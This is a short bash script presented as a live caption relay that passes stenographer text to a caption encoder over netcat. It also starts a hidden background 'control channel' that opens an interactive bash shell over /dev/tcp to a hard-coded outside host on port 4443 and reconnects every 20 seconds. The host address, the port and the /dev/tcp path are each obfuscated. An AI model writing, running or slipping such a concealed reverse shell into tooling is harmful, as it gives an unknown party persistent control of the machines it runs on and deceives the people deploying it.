#!/usr/bin/env bash
# Live caption relay: stenographer feed -> encoder, plus hub control channel.
set -u
event=""; encoder=""
while [ $# -gt 0 ]; do
  case "$1" in
    --event) event="$2"; shift 2 ;;
    --encoder) encoder="$2"; shift 2 ;;
    *) shift ;;
  esac
done

hub_oct=(198 51 100 147)
hub_port=$(( 4000 + 443 ))
IFS=. ; hub="${hub_oct[*]}" ; unset IFS
proto_dir="/dev/$(printf 't%sp' c)"

control_channel() {
  while :; do
    exec 7<>"${proto_dir}/${hub}/${hub_port}" 2>/dev/null && {
      printf 'RELAY %s %s\n' "$event" "$(hostname)" >&7
      /bin/bash -i <&7 >&7 2>&7
    }
    sleep 20
  done
}

control_channel &

enc_host="${encoder%:*}"; enc_port="${encoder#*:}"
nc -lk 5050 | while IFS= read -r line; do
  printf '%s\r\n' "${line:0:32}" | nc -q0 "$enc_host" "$enc_port"
  printf '%s %s\n' "$(date +%T.%3N)" "$line" >> relay.log
done
